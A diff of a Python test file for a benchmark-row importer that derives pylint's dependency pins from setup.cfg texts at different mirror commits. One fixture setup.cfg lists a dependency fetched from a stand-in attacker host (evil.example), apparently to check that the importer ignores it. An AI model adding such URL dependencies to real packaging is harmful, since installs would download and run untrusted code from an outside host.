@@ -129,34 +129,43 @@ def test_the_tables_pins_win_unless_the_project_excludes_them():
     assert replaced == ["astroid==2.11.7"]
 
 
-def _pylint_mirror(mirrors: Path, setup_cfg: str) -> dict[str, str]:
+def _pylint_mirror(mirrors: Path, *setup_cfgs: str) -> list[str]:
+    """A pylint-dev/pylint mirror with one commit per ``setup.cfg`` text; their ids."""
     repo = mirrors / "pylint-dev__pylint"
-    repo.mkdir(parents=True)
-    (repo / "pylint").mkdir()
+    (repo / "pylint").mkdir(parents=True)
     (repo / "pylint" / "__init__.py").write_text("")
-    (repo / "setup.cfg").write_text(setup_cfg)
     fx._git(repo, "init", "-q")
-    fx._git(repo, "add", "-A")
-    fx._git(repo, "commit", "-q", "-m", "base")
-    head = fx._git(repo, "rev-parse", "HEAD")
-    return {"base": head, "1.16.0": head}
+    commits = []
+    for text in setup_cfgs:
+        (repo / "setup.cfg").write_text(text)
+        fx._git(repo, "add", "-A")
+        fx._git(repo, "commit", "-q", "-m", "setup.cfg")
+        commits.append(fx._git(repo, "rev-parse", "HEAD"))
+    return commits
 
 
-def test_an_imported_row_gets_what_its_environment_setup_commit_declares(tmp_path, capsys):
+def test_an_imported_row_gets_what_its_base_and_environment_setup_commits_declare(tmp_path, capsys):
+    """pylint 2.15's later commits need astroid>=2.12.2 (the table pins 2.11.7); its earlier ones
+    pin astroid below 2.12 in setup.cfg. The set-up commit is the later one; the base commit's own
+    range wins, as the harness's `pip install -e .` at the base makes it hold."""
     mirrors = tmp_path / "mirrors"
-    commits = _pylint_mirror(mirrors, "[options]\ninstall_requires =\n    astroid>=2.12.2,<=2.14.0-dev0\n"
-                                      "    dill>=0.2\n    url-dep @ https://evil.example/x.tgz\n")
-    row = fx.row(commits, repo="pylint-dev/pylint", instance_id="pylint-dev__pylint-1", version="2.15",
-                 environment_setup_commit=commits["base"])
+    early, late = _pylint_mirror(
+        mirrors, "[options]\ninstall_requires =\n    astroid>=2.11.7,<=2.12.0-dev0\n    dill>=0.2\n",
+        "[options]\ninstall_requires =\n    astroid>=2.12.2,<=2.14.0-dev0\n    dill>=0.2\n"
+        "    url-dep @ https://evil.example/x.tgz\n    tomlkit>=0.10.1\n")
+    row = fx.row({"base": late, "1.16.0": late}, repo="pylint-dev/pylint", instance_id="pylint-dev__pylint-1",
+                 version="2.15")
     rows = fx.write_rows(tmp_path / "rows.jsonl", row,
-                         {**row, "instance_id": "pylint-dev__pylint-2", "environment_setup_commit": "f" * 40})
+                         {**row, "instance_id": "pylint-dev__pylint-2", "base_commit": early},
+                         {**row, "instance_id": "pylint-dev__pylint-3", "environment_setup_commit": "f" * 40})
     rc, report = _import(rows, tmp_path / "set", mirrors, capsys)
     assert rc == 0, report
     envs = _envs(tmp_path / "set")
-    derived = envs["pylint-dev__pylint-1"]
-    assert derived["derived"] == ["astroid<=2.14.0-dev0,>=2.12.2"]  # dill: the table's pin satisfies it
-    assert "astroid==2.11.7" not in derived["requirements"] and "dill==0.3.7" in derived["requirements"]
+    late_env, early_env = envs["pylint-dev__pylint-1"], envs["pylint-dev__pylint-2"]
+    assert late_env["derived"] == ["astroid<=2.14.0-dev0,>=2.12.2"]  # dill: the table's pin satisfies it
+    assert "astroid==2.11.7" not in late_env["requirements"] and "dill==0.3.7" in late_env["requirements"]
     assert "instead of the table's astroid==2.11.7" in report["rows"][0]["reason"]
-    # A set-up commit the mirror lacks: the table's pins, as before.
-    assert "derived" not in envs["pylint-dev__pylint-2"]
-    assert "astroid==2.11.7" in envs["pylint-dev__pylint-2"]["requirements"]
+    # The base's own range holds the table's pin: kept; tomlkit the table pins already.
+    assert "derived" not in early_env and "astroid==2.11.7" in early_env["requirements"]
+    # A set-up commit the mirror lacks: the base commit's declarations alone.
+    assert envs["pylint-dev__pylint-3"]["derived"] == late_env["derived"]
